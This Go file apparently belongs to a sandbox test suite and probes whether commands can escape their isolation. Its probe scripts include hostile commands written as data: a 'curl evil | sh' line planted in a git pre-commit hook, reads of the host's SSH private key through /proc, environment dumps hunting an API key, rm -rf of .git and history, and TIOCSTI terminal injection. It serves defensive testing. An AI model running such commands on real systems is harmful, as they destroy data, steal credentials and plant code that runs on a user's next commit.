package battery

import (
	"bytes"
	"compress/zlib"
	"context"
	"crypto/sha1"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/harness-dev/harness/internal/sandbox"

	"github.com/harness-dev/harness/internal/sandbox/backend"
	"github.com/harness-dev/harness/internal/sandbox/linux/inner"

	"github.com/harness-dev/harness/internal/sandbox/walls"

	"golang.org/x/sys/unix"

	"github.com/harness-dev/harness/internal/shellquote"
)

// fixture is the Linux battery's world: the common one (battery.go), an
// abstract unix socket and a host terminal in raw mode.
type fixture struct {
	*baseFixture
	abstractLn          net.Listener
	ptyMaster, ptySlave *os.File
	ptsName             string
	// a loose object of the project's repository, for the history probe
	objectPath string
	objectData []byte
}

const (
	hookText   = "#!/bin/sh\necho original hook\n"
	configText = "[core]\n\trepositoryformatversion = 0\n"
)

func newBatteryFixture() (batteryFixture, error) {
	b, err := newBaseFixture(func(b *baseFixture) map[string]string {
		return map[string]string{filepath.Join(b.home, ".cache", "harness", "spill", "other", "1.txt"): "spill-canary-" + b.tag}
	})
	if err != nil {
		return nil, err
	}
	f := &fixture{baseFixture: b}
	f.resetGit()
	f.abstractLn, _ = net.Listen("unix", "@harness-battery-"+f.tag)
	f.openPty()
	return f, nil
}

func (f *fixture) policyOptions() walls.PolicyOptions {
	return walls.PolicyOptions{Project: f.proj, Home: f.home, Environ: f.environ(), Timeout: 30 * time.Second,
		Hide: []string{filepath.Join(f.home, ".cache", "harness", "spill")}}
}

// batteryMode says how the backend starts commands.
func batteryMode(sb sandbox.Sandbox) string {
	if sandbox.IsContainer(sb.Backend()) {
		return " (one container per session, an exec per command)"
	}
	if sandbox.Inspect(sb).Launcher != nil {
		return " (one launcher per session)"
	}
	return " (a sandbox per command)"
}

// batteryHeader says how the commands are bounded (a cgroup or not) and
// what the backend does about metadata writes.
func batteryHeader(sb sandbox.Sandbox) []string {
	cg := sandbox.Inspect(sb).Cgroup
	out := []string{sandbox.BoundsText(sb)}
	switch {
	case sandbox.IsContainer(sb.Backend()):
	case cg != nil:
		for _, l := range cg.Text() {
			out = append(out, "  "+l)
		}
	default:
		out = append(out, "  no writable cgroup here: the rlimits above and the kill scan stand alone")
	}
	return append(out, "chmod, chown, utime, xattr outside the project: "+sandbox.MetadataWall(sb.Backend()))
}

// probes: the walls, the launcher's own surface, then the host side.
func (f *fixture) probes(sb sandbox.Sandbox, helper string) []probe {
	ps := append(append(append(f.wallProbes(helper), f.historyProbe(sb)), f.launcherProbes(helper, sandbox.Inspect(sb).Launcher)...), f.hostProbes(sb, helper)...)
	return append(ps, modeProbe(sb, f.proj, f.tag))
}

// historyProbe: an object one command writes is still in the repository
// after the next one deletes every object it can reach and prunes.
func (f *fixture) historyProbe(sb sandbox.Sandbox) probe {
	content := "made inside " + f.tag
	return probe{name: "git history: objects a command writes outlive it", before: f.resetGit,
		host: func(ctx context.Context) (string, string) {
			r, err := sb.Run(ctx, sandbox.Cmd{Script: "printf '%s\\n' " + shellquote.Quote(content) + " | git hash-object -w --stdin >/dev/null && echo WROTE"})
			if err != nil {
				return err.Error(), ""
			}
			if !bytes.Contains(r.Output, []byte("WROTE")) {
				return "", ".git is read-only here: nothing was written"
			}
			if _, err := sb.Run(ctx, sandbox.Cmd{Script: "rm -rf .git/objects/?? .git/objects/pack 2>/dev/null; git prune --expire=now 2>/dev/null; true"}); err != nil {
				return err.Error(), ""
			}
			if p, _ := gitObjectPath(filepath.Join(f.proj, ".git"), content+"\n"); !exists(p) {
				return "an object a command wrote is gone from the repository: " + p, ""
			}
			return "", ""
		}}
}

// resetGit (re)creates the project's repository and a nested one, so a
// probe that broke them does not hide what the next probe would do.
func (f *fixture) resetGit() {
	for _, repo := range []string{f.proj, filepath.Join(f.proj, "sub")} {
		g := filepath.Join(repo, ".git")
		if _, err := os.Stat(filepath.Join(g, "HEAD")); err == nil {
			os.WriteFile(filepath.Join(g, "hooks", "pre-commit"), []byte(hookText), 0o755)
			os.WriteFile(filepath.Join(g, "config"), []byte(configText), 0o644)
			continue
		}
		os.RemoveAll(g)
		os.MkdirAll(filepath.Join(g, "hooks"), 0o755)
		os.WriteFile(filepath.Join(g, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
		os.WriteFile(filepath.Join(g, "config"), []byte(configText), 0o644)
		os.WriteFile(filepath.Join(g, "hooks", "pre-commit"), []byte(hookText), 0o755)
	}
	os.RemoveAll(filepath.Join(f.proj, "git-moved"))
	f.objectPath, f.objectData = plantGitObject(filepath.Join(f.proj, ".git"), "history "+f.tag+"\n")
	// A repository whose hooks are husky v9's: core.hooksPath .husky/_,
	// whose stubs run .husky/<hook>, which the user's next commit runs.
	husky := filepath.Join(f.proj, "husky")
	os.MkdirAll(filepath.Join(husky, ".git", "hooks"), 0o755)
	os.WriteFile(filepath.Join(husky, ".git", "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	os.WriteFile(filepath.Join(husky, ".git", "config"), []byte(configText+"\thooksPath = .husky/_\n"), 0o644)
	os.MkdirAll(filepath.Join(husky, ".husky", "_"), 0o755)
	os.WriteFile(filepath.Join(husky, ".husky", "_", "pre-commit"), []byte("#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n"), 0o755)
	os.WriteFile(filepath.Join(husky, ".husky", "pre-commit"), []byte(hookText), 0o755)
}

// plantGitObject writes a loose blob into a git directory as git would
// (zlib of "blob <size>\0<content>", named by its SHA-1) and returns its
// path and bytes, for the probe that tries to destroy history.
func plantGitObject(gitDir, content string) (path string, data []byte) {
	path, raw := gitObjectPath(gitDir, content)
	var b bytes.Buffer
	zw := zlib.NewWriter(&b)
	zw.Write([]byte(raw))
	zw.Close()
	os.MkdirAll(filepath.Dir(path), 0o755)
	if old, err := os.ReadFile(path); err != nil || !bytes.Equal(old, b.Bytes()) {
		os.Remove(path)
		os.WriteFile(path, b.Bytes(), 0o444)
	}
	return path, b.Bytes()
}

// gitObjectPath is where gitDir keeps the loose blob holding content,
// and the blob as git hashes it.
func gitObjectPath(gitDir, content string) (path, raw string) {
	raw = fmt.Sprintf("blob %d\x00%s", len(content), content)
	sum := sha1.Sum([]byte(raw))
	name := hex.EncodeToString(sum[:])
	return filepath.Join(gitDir, "objects", name[:2], name[2:]), raw
}

// openPty opens a host terminal in raw mode: a byte pushed with TIOCSTI
// shows up in its input queue.
func (f *fixture) openPty() {
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return
	}
	fd := int(m.Fd())
	if unix.IoctlSetPointerInt(fd, unix.TIOCSPTLCK, 0) != nil {
		m.Close()
		return
	}
	n, err := unix.IoctlGetInt(fd, unix.TIOCGPTN)
	if err != nil {
		m.Close()
		return
	}
	name := fmt.Sprintf("/dev/pts/%d", n)
	s, err := os.OpenFile(name, os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		m.Close()
		return
	}
	if t, err := unix.IoctlGetTermios(int(s.Fd()), unix.TCGETS); err == nil {
		t.Lflag &^= unix.ICANON | unix.ECHO
		unix.IoctlSetTermios(int(s.Fd()), unix.TCSETS, t)
	}
	os.Chmod(name, 0o666) // an unprivileged sandbox must not be stopped by mode bits alone
	f.ptyMaster, f.ptySlave, f.ptsName = m, s, name
}

func (f *fixture) close() {
	if f.abstractLn != nil {
		f.abstractLn.Close()
	}
	if f.ptyMaster != nil {
		f.ptyMaster.Close()
		f.ptySlave.Close()
	}
	f.baseFixture.close()
}

// wallProbes attack the walls from inside.
func (f *fixture) wallProbes(helper string) []probe {
	q := shellquote.Quote
	gitIntact := func(*sandbox.Result) string {
		for _, repo := range []string{f.proj, filepath.Join(f.proj, "sub")} {
			if c := content(filepath.Join(repo, ".git", "hooks", "pre-commit")); c != hookText {
				return "hook changed in " + repo
			}
			if c := content(filepath.Join(repo, ".git", "config")); c != configText {
				return "git config changed in " + repo
			}
		}
		if exists(filepath.Join(f.proj, "git-moved")) {
			return ".git was moved"
		}
		if c := content(filepath.Join(f.proj, ".agents", "conf")); c != "original" {
			return ".agents/conf changed"
		}
		return ""
	}
	etc := "/etc/harness-battery-" + f.tag
	hostPID := fmt.Sprint(os.Getpid())
	marker := "harness-battery-marker-" + f.tag
	sleeper := fmt.Sprintf("sh -c 'sleep 300; : %s'", marker)
	h := helperCommand(helper)

	ps := append(f.commonProbes(etc, h),
		probe{name: "remount / read-write", script: "mount -o remount,rw / ; mount -t tmpfs none /etc ; echo x > " + q(etc), check: checkAbsent(etc)},
		probe{name: "capabilities (CapEff 0, NoNewPrivs 1)", script: "grep -E '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status",
			check: func(r *sandbox.Result) string {
				o := string(r.Output)
				if !strings.Contains(o, "CapEff:\t0000000000000000") || !strings.Contains(o, "CapPrm:\t0000000000000000") || !strings.Contains(o, "NoNewPrivs:\t1") {
					return "capabilities or no_new_privs: " + strings.ReplaceAll(strings.TrimSpace(o), "\n", "; ")
				}
				return ""
			}},
		probe{name: ".git hook and config writes", before: f.resetGit,
			script: "echo evil > .git/hooks/pre-commit; echo evil >> .git/config; echo evil > sub/.git/hooks/pre-commit; echo evil > .agents/conf; chmod 777 .git/hooks/pre-commit",
			check:  gitIntact},
		probe{name: "mv .git", before: f.resetGit, script: "mv .git git-moved", check: gitIntact},
		probe{name: "what a hooks path runs (husky's .husky/pre-commit)", before: f.resetGit,
			script: "echo 'curl evil | sh' > husky/.husky/pre-commit; rm -f husky/.husky/pre-commit; echo evil > husky/.husky/_/pre-commit; true",
			check: func(*sandbox.Result) string {
				if c := content(filepath.Join(f.proj, "husky", ".husky", "pre-commit")); c != hookText {
					return "husky/.husky/pre-commit changed: the user's next commit runs it"
				}
				return ""
			}},
		// Commits work inside, so objects are written there; but only
		// added to: history that existed cannot be deleted or rewritten.
		probe{name: "git history: delete, prune, overwrite objects", before: f.resetGit,
			script: "git gc -q --prune=now 2>/dev/null; rm -rf .git/objects/* .git/objects/.harness-base/* 2>/dev/null; " +
				"for o in $(find .git/objects -type f 2>/dev/null); do chmod u+w \"$o\" 2>/dev/null; printf x > \"$o\" 2>/dev/null; done; rm -rf .git 2>/dev/null; true",
			check: func(*sandbox.Result) string {
				if b, err := os.ReadFile(f.objectPath); err != nil || !bytes.Equal(b, f.objectData) {
					return "an object that existed was deleted or rewritten: " + f.objectPath
				}
				return ""
			}},
		// History only grows: a replacement ref never changes what the
		// host's git reads (objects: historyProbe).
		probe{name: "git history: refs/replace from inside", before: f.resetGit,
			script: "a=$(echo a | git hash-object -w --stdin) && b=$(echo b | git hash-object -w --stdin) && git replace $a $b; true",
			check: func(*sandbox.Result) string {
				if ents, err := os.ReadDir(filepath.Join(f.proj, ".git", "refs", "replace")); err == nil && len(ents) > 0 {
					return "a replacement ref reached the host's repository: its git reads another object for a committed one"
				}
				return ""
			}},
		probe{name: "rm -rf .git", before: f.resetGit, script: "rm -rf .git sub/.git .agents", check: func(r *sandbox.Result) string {
			if !exists(filepath.Join(f.proj, ".git", "HEAD")) || !exists(filepath.Join(f.proj, "sub", ".git", "HEAD")) {
				return ".git was removed"
			}
			return gitIntact(r)
		}},
		probe{name: "/proc/<host pid>/root", script: "echo x > /proc/" + hostPID + "/root" + q(f.sibling+"/proc-escape") + "; cat /proc/" + hostPID + "/root" + q(f.home+"/.ssh/id_rsa"),
			check: checkAll(checkAbsent(f.sibling+"/proc-escape"), checkLacks(f.sshKey))},
		probe{name: "environment holds no API key", script: "env; cat /proc/self/environ", check: checkLacks(f.key)},
		probe{name: "/tmp writable and private", script: "echo private-" + f.tag + " > \"${TMPDIR:-/tmp}/battery-" + f.tag + "\" && cat \"${TMPDIR:-/tmp}/battery-" + f.tag + "\"",
			check: checkAll(checkHolds("the temporary directory", "private-"+f.tag), checkAbsent("/tmp/battery-"+f.tag))},
		probe{name: "/tmp survives between commands", script: "cat \"${TMPDIR:-/tmp}/battery-" + f.tag + "\"",
			check: checkHolds("the session's temporary directory, between commands,", "private-"+f.tag)},
		probe{name: "unshare -Ur (nested user namespace)", script: "unshare -Ur true && echo NESTED-OK",
			check: func(r *sandbox.Result) string {
				if bytes.Contains(r.Output, []byte("NESTED-OK")) {
					return "created a user namespace inside the sandbox"
				}
				return ""
			}},
		probe{name: "timeout kills setsid/nohup/double-fork children", timeout: time.Second,
			script: sleeper + " & setsid " + sleeper + " & nohup " + sleeper + " >/dev/null 2>&1 & sh -c \"" + strings.ReplaceAll(sleeper, "'", "\\'") + " &\" ; (setsid sh -c 'sleep 300; : " + marker + "' &) ; sleep 300",
			check: func(r *sandbox.Result) string {
				if !r.TimedOut || r.ExitCode != sandbox.TimeoutExit {
					return fmt.Sprintf("the command was not timed out (exit %d)", r.ExitCode)
				}
				if n := survivors(marker, 3*time.Second); n > 0 {
					return fmt.Sprintf("%d processes survived the timeout", n)
				}
				return ""
			}},
	)
	if helper == "" {
		return ps
	}
	ps = append(ps, probe{name: "chmod, utime, xattr outside the project", script: h + "meta " + q(f.outside), check: helperRan(f.metaSame)})
	abstract := probe{name: "host unix socket (abstract)", script: h + "connect-unix " + q("@harness-battery-"+f.tag), check: helperRan(checkNoConn(f.abstractLn))}
	// The family's high word set, which the kernel ignores. The socket
	// itself must be refused: under a network namespace the host's
	// abstract socket is out of reach anyway.
	wide := probe{name: "host unix socket (abstract), family 1<<32|AF_UNIX", script: h + "connect-unix-wide " + q("@harness-battery-"+f.tag),
		check: helperRan(checkAll(checkNoConn(f.abstractLn), func(r *sandbox.Result) string {
			if bytes.Contains(r.Output, []byte("a unix socket, but")) {
				return "socket(1<<32|AF_UNIX) made a unix socket"
			}
			return ""
		}))}
	if f.abstractLn == nil {
		abstract.skip = "could not listen on the host"
		wide.skip = abstract.skip
	}
	ps = append(ps, abstract, wide,
		probe{name: "TIOCSTI on a fresh pty", script: h + "tiocsti-pty", check: helperRan(func(r *sandbox.Result) string {
			if bytes.Contains(r.Output, []byte("ESCAPED")) {
				return "TIOCSTI pushed input into a terminal"
			}
			return ""
		})},
	)
	pty := probe{name: "TIOCSTI into the host terminal", skip: "no host pty"}
	if f.ptySlave != nil {
		pty = probe{name: "TIOCSTI into the host terminal", script: h + "tiocsti " + q(f.ptsName), check: helperRan(func(*sandbox.Result) string {
			if n, err := unix.IoctlGetInt(int(f.ptySlave.Fd()), unix.TIOCINQ); err == nil && n > 0 {
				return fmt.Sprintf("%d bytes were typed into the host terminal", n)
			}
			return ""
		})}
	}
	return append(ps, pty)
}

// launcherProbes attack the launcher's own surface: descriptors a command
// might inherit, and the launcher and supervisors that share its uid and
// PID namespace.
func (f *fixture) launcherProbes(helper string, alive func() (problem string, restarts int)) []probe {
	if helper == "" {
		return nil
	}
	h := helperCommand(helper)
	held := noEscape
	ps := []probe{{name: "no inherited descriptors", script: h + "fds", check: helperRan(noEscape)}}
	if alive == nil {
		return ps
	}
	_, restarts := alive()
	reached := func(r *sandbox.Result) string {
		if p := held(r); p != "" {
			return p
		}
		var n int
		if i := bytes.Index(r.Output, []byte("checked ")); i < 0 {
			return "the probe did not run: " + backend.FirstLine(r.Output)
		} else if fmt.Sscan(string(r.Output[i+len("checked "):]), &n); n < 2 {
			return fmt.Sprintf("found %d launcher processes, want the launcher and a supervisor at least", n)
		}
		time.Sleep(100 * time.Millisecond) // a killed launcher needs a moment to be seen dead
		if p, n := alive(); p != "" || n != restarts {
			return fmt.Sprintf("the launcher was restarted (%s)", p)
		}
		return ""
	}
	ps = append(ps, probe{name: "ptrace, mem, fd, environ of the launcher", script: h + "supervisors", check: reached})
	kill := probe{name: "kill the launcher and supervisors", script: h + "supervisors kill", check: reached}
	if inner.LandlockABI() < 6 {
		kill.skip = "Landlock below ABI 6 cannot stop a same-uid signal (a denial of service: the next command restarts the launcher)"
	}
	return append(ps, kill)
}

// survivors counts host processes whose command line holds marker, waiting
// up to grace for the kernel to finish killing a namespace.
func survivors(marker string, grace time.Duration) int {
	deadline := time.Now().Add(grace)
	for {
		n := 0
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			if strings.Trim(e.Name(), "0123456789") != "" {
				continue
			}
			b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
			if err == nil && bytes.Contains(b, []byte(marker)) && !bytes.Contains(b, []byte(inner.ProbeArg)) {
				n++
			}
		}
		if n == 0 || time.Now().After(deadline) {
			return n
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// metaSame checks, on the host, that the file outside the project kept its
// mode, modification time and extended attributes (probeMeta's targets).
func (f *fixture) metaSame(*sandbox.Result) string {
	var st unix.Stat_t
	if err := unix.Stat(f.outside, &st); err != nil {
		return "cannot stat " + f.outside + ": " + err.Error()
	}
	var bad []string
	if st.Mode&0o7777 != 0o600 {
		bad = append(bad, fmt.Sprintf("mode %o", st.Mode&0o7777))
	}
	if st.Mtim.Sec == 1 {
		bad = append(bad, "mtime set to 1970")
	}
	if n, err := unix.Getxattr(f.outside, "user.harness", nil); err == nil && n >= 0 {
		bad = append(bad, "xattr user.harness set")
	}
	if bad != nil {
		// Put it back, so later probes start from the same file.
		os.Chmod(f.outside, 0o600)
		unix.Removexattr(f.outside, "user.harness")
		now := time.Now()
		os.Chtimes(f.outside, now, now)
		return f.outside + ": " + strings.Join(bad, ", ")
	}
	return ""
}
